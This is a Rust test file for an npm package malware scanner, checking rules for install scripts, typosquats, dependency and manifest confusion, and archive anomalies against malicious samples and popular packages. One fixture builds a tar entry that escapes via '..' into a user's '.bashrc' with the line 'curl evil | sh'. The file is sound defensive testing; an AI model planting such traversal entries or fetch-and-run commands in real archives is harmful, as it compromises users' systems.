//! The package-level rules (install scripts, typosquat, dependency confusion, manifest
//! confusion, phantom dependencies, archive anomalies) end to end through `scan_package`:
//! on the real corpus samples when `../shared/corpus` exists, and — `#[ignore]`d, since it
//! needs the popular tarballs downloaded first — their false-positive rate on the popular set.

use std::collections::BTreeMap;
use std::path::Path;

use palisade_analyze::{scan_package, ScanOptions};
use palisade_core::{Finding, Severity};
use palisade_tarball::{read_tgz, read_zip, Limits};

const PACKAGE_RULES: &[&str] = &[
    "install-script",
    "install-script-download",
    "install-script-runs-file",
    "install-script-inline-code",
    "install-script-binary",
    "install-script-persistence",
    "bin-shadowing",
    "remote-dependency",
    "host-recon",
    "typosquat",
    "dependency-confusion-version",
    "manifest-confusion",
    "phantom-dependency",
    "archive-anomaly",
];

fn corpus_findings(zip: &str) -> Option<Vec<Finding>> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpus")
        .join(zip);
    let bytes = std::fs::read(path).ok()?;
    let packages = read_zip(&bytes, zip, Some(b"infected"), &Limits::default()).ok()?;
    let result = scan_package(packages.first()?, &ScanOptions::default());
    Some(result.findings)
}

#[test]
fn electorn_typosquat_with_preinstall() {
    let Some(findings) = corpus_findings("npm-malicious/electorn@1.0.1.zip") else {
        return;
    };
    let typosquat = findings
        .iter()
        .find(|f| f.rule == "typosquat")
        .expect("typosquat finding");
    assert!(typosquat.message.contains("`electron`"), "{}", typosquat.message);
    let runs = findings
        .iter()
        .find(|f| f.rule == "install-script-runs-file")
        .expect("runs-file finding");
    assert!(
        runs.evidence
            .as_deref()
            .is_some_and(|e| e.starts_with("file: preinstall.js")),
        "{runs:?}"
    );
}

/// `PALISADE_POPULAR_DIR=/dir/of/tgz cargo test -p palisade-analyze --test package_rules -- --ignored --nocapture`
#[test]
#[ignore = "needs the popular-1000 tarballs downloaded into PALISADE_POPULAR_DIR"]
fn popular_false_positives() {
    let Ok(dir) = std::env::var("PALISADE_POPULAR_DIR") else {
        panic!("set PALISADE_POPULAR_DIR to a directory of popular .tgz files");
    };
    let mut entries: Vec<_> = std::fs::read_dir(&dir)
        .expect("dir")
        .flatten()
        .map(|e| e.path())
        .collect();
    entries.retain(|p| p.extension().is_some_and(|e| e == "tgz"));
    entries.sort();
    let mut counts: BTreeMap<(&str, Severity), usize> = BTreeMap::new();
    let mut high_packages = Vec::new();
    let mut packages = 0;
    let mut panicked = Vec::new();
    for path in &entries {
        let Ok(bytes) = std::fs::read(path) else { continue };
        let origin = path.display().to_string();
        let Ok(contents) = read_tgz(&bytes, &origin, &Limits::default()) else {
            println!("unreadable: {origin}");
            continue;
        };
        packages += 1;
        // Another rule's panic must not hide this measurement: count it and go on.
        let scanned = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            scan_package(&contents, &ScanOptions::default())
        }));
        let Ok(result) = scanned else {
            panicked.push(origin.clone());
            continue;
        };
        let mine: Vec<&Finding> = result
            .findings
            .iter()
            .filter(|f| PACKAGE_RULES.contains(&f.rule.as_str()))
            .collect();
        for finding in &mine {
            let rule = PACKAGE_RULES
                .iter()
                .find(|r| **r == finding.rule)
                .copied()
                .unwrap_or_default();
            *counts.entry((rule, finding.severity)).or_default() += 1;
            if (finding.severity >= Severity::Moderate && finding.rule != "install-script-runs-file")
                || std::env::var_os("PALISADE_SHOW_ALL").is_some()
            {
                println!(
                    "{}@{}: {} {}: {}",
                    result.package.name, result.package.version, finding.rule, finding.severity, finding.message
                );
            }
        }
        if mine.iter().any(|f| f.severity >= Severity::High) {
            high_packages.push(format!("{}@{}", result.package.name, result.package.version));
        }
    }
    println!(
        "{packages} packages; the analyzer panicked on {}: {panicked:?}",
        panicked.len()
    );
    for ((rule, severity), count) in &counts {
        println!("{rule:32} {severity:9} {count}");
    }
    println!(
        "packages with a high/critical package-rule finding: {} {high_packages:?}",
        high_packages.len()
    );
    assert!(packages > 0);
    assert!(
        high_packages.len() * 100 <= packages,
        "more than 1% of popular packages get a high package-rule finding"
    );
}

/// Prints which package rules fire on each corpus sample (a look, not a gate):
/// `cargo test -p palisade-analyze --test package_rules -- --ignored corpus --nocapture`
#[test]
#[ignore = "prints a table; run by hand"]
fn corpus_package_rule_hits() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus");
    for set in ["npm-malicious", "npm-reconstructed"] {
        let Ok(entries) = std::fs::read_dir(root.join(set)) else {
            continue;
        };
        let mut zips: Vec<String> = entries
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.ends_with(".zip"))
            .collect();
        zips.sort();
        for zip in zips {
            let Some(findings) = corpus_findings(&format!("{set}/{zip}")) else {
                continue;
            };
            let mine: Vec<String> = findings
                .iter()
                .filter(|f| PACKAGE_RULES.contains(&f.rule.as_str()))
                .map(|f| format!("{}({})", f.rule, f.severity))
                .collect();
            println!("{zip:45} {}", mine.join(" "));
        }
    }
}

/// A ustar entry, written by hand so that names a tar writer refuses (`..`) can be made.
fn tar_entry(tar: &mut Vec<u8>, name: &str, typeflag: u8, data: &[u8]) {
    let mut header = [0u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    for (range, value) in [
        (100..108, 0o644u64),
        (108..116, 0),
        (116..124, 0),
        (124..136, data.len() as u64),
        (136..148, 0),
    ] {
        let width = range.len() - 1;
        let text = format!("{value:0width$o}");
        header[range.start..range.start + text.len()].copy_from_slice(text.as_bytes());
    }
    header[148..156].copy_from_slice(b"        ");
    header[156] = typeflag;
    header[257..263].copy_from_slice(b"ustar\0");
    header[263..265].copy_from_slice(b"00");
    let sum: u64 = header.iter().map(|b| u64::from(*b)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    tar.extend_from_slice(&header);
    tar.extend_from_slice(data);
    tar.resize(tar.len().div_ceil(512) * 512, 0);
}

#[test]
fn archive_bombs_and_traversal_become_findings() {
    let manifest = br#"{"name":"many-files","version":"1.0.0"}"#;
    let mut tar = Vec::new();
    tar_entry(&mut tar, "package/package.json", b'0', manifest);
    tar_entry(&mut tar, "package/../../../home/user/.bashrc", b'0', b"curl evil | sh");
    tar_entry(&mut tar, "package/link", b'2', b"");
    for i in 0..200 {
        tar_entry(&mut tar, &format!("package/f{i}.js"), b'0', b"");
    }
    tar.extend_from_slice(&[0; 1024]);
    let limits = Limits {
        max_entries: 100,
        ..Limits::default()
    };
    let contents = read_tgz(&tar, "many-files.tar", &limits).expect("a bomb is a finding, not an error");
    let result = scan_package(&contents, &ScanOptions::default());
    let anomalies: Vec<&Finding> = result.findings.iter().filter(|f| f.rule == "archive-anomaly").collect();
    assert_eq!(anomalies.len(), 3, "{anomalies:?}");
    assert!(anomalies
        .iter()
        .any(|f| f.message.starts_with("archive bomb") && f.severity == Severity::High));
    assert!(anomalies
        .iter()
        .any(|f| f.message.contains("`..`") && f.severity == Severity::High));
    assert!(anomalies
        .iter()
        .any(|f| f.message.contains("symbolic links") && f.severity == Severity::Moderate));
    assert!(result
        .findings
        .iter()
        .all(|f| f.file.as_deref() != Some("../../../home/user/.bashrc")));
}

/// Manifest confusion against real registry version documents: a directory holding
/// `name@version.json` (the registry's `/name/version` document) beside `name@version.tgz`.
/// `PALISADE_MANIFEST_DIR=dir cargo test -p palisade-analyze --test package_rules -- --ignored manifest --nocapture`
#[test]
#[ignore = "needs registry documents and tarballs"]
fn manifest_confusion_on_real_registry_documents() {
    let Ok(dir) = std::env::var("PALISADE_MANIFEST_DIR") else {
        return;
    };
    let mut checked = 0;
    let mut reported = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("dir").flatten() {
        let path = entry.path();
        if path.extension().is_none_or(|e| e != "json") {
            continue;
        }
        let Ok(tarball) = std::fs::read(path.with_extension("tgz")) else {
            continue;
        };
        let Ok(document) = serde_json::from_slice::<serde_json::Value>(&std::fs::read(&path).expect("read")) else {
            continue;
        };
        let contents = read_tgz(&tarball, &path.display().to_string(), &Limits::default()).expect("tarball");
        let options = ScanOptions {
            registry_manifest: Some(document),
        };
        let result = scan_package(&contents, &options);
        checked += 1;
        for finding in result.findings.iter().filter(|f| f.rule == "manifest-confusion") {
            reported.push(format!(
                "{}: {} ({})",
                path.display(),
                finding.message,
                finding.evidence.as_deref().unwrap_or("")
            ));
        }
    }
    for line in &reported {
        println!("{line}");
    }
    println!("{checked} packages, {} manifest-confusion findings", reported.len());
    assert!(checked > 0);
    assert!(reported.is_empty());
}
